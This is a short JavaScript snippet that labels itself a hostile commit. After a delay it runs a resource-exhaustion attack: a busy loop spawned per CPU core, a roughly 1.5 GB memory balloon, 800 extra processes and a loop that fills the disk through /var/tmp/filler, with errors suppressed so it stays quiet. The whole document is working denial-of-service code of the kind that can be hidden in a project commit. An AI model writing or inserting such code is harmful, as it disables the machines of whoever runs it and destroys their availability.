// A hostile commit: a busy loop per core, a memory balloon, a process flood, a disk filler.
setTimeout(async () => {
  const { spawn } = await import('node:child_process');
  const { appendFileSync } = await import('node:fs');
  const os = await import('node:os');
  for (let i = 0; i < os.cpus().length; i++) {
    spawn(process.execPath, ['-e', 'for (;;) {}'], { stdio: 'ignore' }).on('error', () => {});
  }
  globalThis.balloon = Array.from({ length: 6 }, () => Buffer.alloc(256 * 1024 * 1024, 1));
  for (let i = 0; i < 800; i++) {
    try { spawn('sleep', ['600'], { stdio: 'ignore' }).on('error', () => {}); } catch { /* EAGAIN */ }
  }
  const chunk = Buffer.alloc(32 * 1024 * 1024, 7);
  const fill = () => { try { appendFileSync('/var/tmp/filler', chunk); setTimeout(fill, 5); } catch { /* full */ } };
  fill();
}, 4000);
